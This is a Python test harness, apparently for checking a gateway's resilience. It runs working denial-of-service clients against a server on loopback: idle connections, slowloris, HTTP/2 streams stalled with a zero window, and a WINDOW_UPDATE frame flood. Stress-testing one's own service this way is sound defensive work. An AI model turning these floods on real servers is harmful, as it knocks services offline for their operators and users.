#!/usr/bin/env python3
"""Hostile clients against a gateway on loopback, for a bounded time (Python stdlib only).

Each attack runs its own connections and opens a new one whenever the gateway closes one, so
the pressure stays constant for the whole run:

  silent N          TCP connections that never send a byte
  slowloris N       request heads trickled one byte every --trickle seconds, never finished
  stalled C:S       C HTTP/2 (h2c, prior knowledge) connections each opening S streams for
                    --path with a flow-control window of 0, and never reading the socket
  flood N           HTTP/2 connections sending WINDOW_UPDATE frames as fast as the socket takes
                    them (CVE-2019-9513 class); a connection the gateway closes is reopened, at
                    most --flood-rate times a second per flooder (0: as fast as the loop goes,
                    which makes it a connection flood as much as a frame flood)

All sockets are bound to --source (another loopback address than the normal traffic's, as an
attacker's would be). At the end one JSON object is printed: per attack, connections opened,
closed by the gateway, and for silent/slowloris how long the gateway took to close them.

Usage: attack.py --port P --seconds S [--source 127.0.0.2] [--silent 64] [--slowloris 64]
                 [--stalled 4:50] [--flood 2] [--flood-rate 200] [--path /public/big.bin]
                 [--trickle 1.0]
"""

import argparse
import json
import selectors
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"initial_window_size": 0x4, "enable_push": 0x2}
    return frame(0x4, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def hpack_literal(name_index, value):
    """A literal header field without indexing, its name from the static table (RFC 7541 6.2.2)."""
    raw = value.encode()
    assert name_index < 15 and len(raw) < 127
    return bytes([name_index, len(raw)]) + raw


def request_headers(stream, authority, path):
    # :method GET (static 2), :scheme http (static 6), :path, :authority; END_STREAM|END_HEADERS.
    block = b"\x82\x86" + hpack_literal(4, path) + hpack_literal(1, authority)
    return frame(0x1, 0x5, stream, block)


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.opened = 0
        self.closed_by_gateway = 0
        self.connect_errors = 0
        self.lifetimes = []

    def add(self, **kw):
        with self.lock:
            for k, v in kw.items():
                if k == "lifetime":
                    self.lifetimes.append(v)
                else:
                    setattr(self, k, getattr(self, k) + v)

    def summary(self):
        with self.lock:
            life = sorted(self.lifetimes)
            out = {
                "opened": self.opened,
                "closed_by_gateway": self.closed_by_gateway,
                "connect_errors": self.connect_errors,
            }
            if life:
                out["close_after_s"] = {
                    "min": round(life[0], 2),
                    "median": round(life[len(life) // 2], 2),
                    "max": round(life[-1], 2),
                }
            return out


def connect(args, stats):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.settimeout(2)
    try:
        s.bind((args.source, 0))
        s.connect(("127.0.0.1", args.port))
    except OSError:
        s.close()
        stats.add(connect_errors=1)
        time.sleep(0.05)
        return None
    stats.add(opened=1)
    return s


def closed(s):
    """Whether the gateway closed the socket (a read that returns EOF or an error)."""
    try:
        return s.recv(65536, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def held(args, stats, end, n, send_next):
    """Holds n connections open until `end`, calling send_next(sock, state) about once per
    --trickle seconds; a connection the gateway closes is recorded and replaced."""
    sel = selectors.DefaultSelector()
    conns = {}

    def open_one():
        s = connect(args, stats)
        if s is not None:
            s.setblocking(False)
            conns[s] = {"t0": time.monotonic(), "sent": 0}
            sel.register(s, selectors.EVENT_READ)

    for _ in range(n):
        open_one()
    next_tick = time.monotonic()
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            if closed(s):
                stats.add(closed_by_gateway=1, lifetime=time.monotonic() - conns[s]["t0"])
                sel.unregister(s)
                s.close()
                del conns[s]
        while len(conns) < n and time.monotonic() < end:
            open_one()
            if len(conns) < n:
                break
        if send_next and time.monotonic() >= next_tick:
            next_tick += args.trickle
            for s, st in list(conns.items()):
                try:
                    send_next(s, st)
                except OSError:
                    pass
    for s in conns:
        s.close()


SLOW_HEAD = b"GET /public/slow HTTP/1.1\r\nHost: attack\r\nX-Slow: " + b"a" * 4000


def slowloris_byte(s, st):
    i = st["sent"] % len(SLOW_HEAD)
    s.send(SLOW_HEAD[i : i + 1])
    st["sent"] += 1


def stalled(args, stats, end, conns, streams):
    """conns connections, each with `streams` requests whose window is 0; the sockets are never
    read, so whatever the gateway queues for them stays queued until it gives up."""
    hello = PREFACE + settings(initial_window_size=0, enable_push=0)
    heads = b"".join(
        request_headers(2 * i + 1, "attack", args.path) for i in range(streams)
    )
    held_socks = []
    while time.monotonic() < end:
        while len(held_socks) < conns:
            s = connect(args, stats)
            if s is None:
                break
            try:
                s.sendall(hello + heads)
            except OSError:
                s.close()
                continue
            held_socks.append((s, time.monotonic()))
        time.sleep(0.5)
        keep = []
        for s, t0 in held_socks:
            # Peeking tells whether the gateway closed the socket without reading its data.
            try:
                gone = s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b""
            except BlockingIOError:
                gone = False
            except OSError:
                gone = True
            if gone:
                stats.add(closed_by_gateway=1, lifetime=time.monotonic() - t0)
                s.close()
            else:
                keep.append((s, t0))
        held_socks = keep
    for s, _ in held_socks:
        s.close()


def flood(args, stats, end):
    hello = PREFACE + settings()
    burst = frame(0x8, 0, 0, struct.pack(">I", 1)) * 4096
    t0, n = time.monotonic(), 0
    while time.monotonic() < end:
        if args.flood_rate > 0:
            wait = t0 + n / args.flood_rate - time.monotonic()
            if wait > 0:
                time.sleep(wait)
            n += 1
        s = connect(args, stats)
        if s is None:
            continue
        try:
            s.sendall(hello)
            while time.monotonic() < end:
                s.sendall(burst)
        except OSError:
            stats.add(closed_by_gateway=1)
        finally:
            s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--source", default="127.0.0.2")
    p.add_argument("--silent", type=int, default=0)
    p.add_argument("--slowloris", type=int, default=0)
    p.add_argument("--stalled", default="0:0")
    p.add_argument("--flood", type=int, default=0)
    p.add_argument("--flood-rate", type=float, default=200.0)
    p.add_argument("--path", default="/public/big.bin")
    p.add_argument("--trickle", type=float, default=1.0)
    args = p.parse_args()
    if not 0 < args.seconds <= 3600:
        p.error("--seconds must be in (0, 3600]")
    end = time.monotonic() + args.seconds
    stats = {}
    threads = []

    def run(name, target, *extra):
        stats[name] = Stats()
        t = threading.Thread(target=target, args=(args, stats[name], end) + extra, daemon=True)
        threads.append(t)
        t.start()

    if args.silent:
        run("silent", held, args.silent, None)
    if args.slowloris:
        run("slowloris", held, args.slowloris, slowloris_byte)
    c, _, n = args.stalled.partition(":")
    if int(c or 0) and int(n or 0):
        run("stalled", stalled, int(c), int(n))
    for i in range(args.flood):
        run(f"flood{i}", flood)
    for t in threads:
        t.join(args.seconds + 10)
    out = {name: st.summary() for name, st in stats.items()}
    print(json.dumps(out, sort_keys=True))


if __name__ == "__main__":
    main()
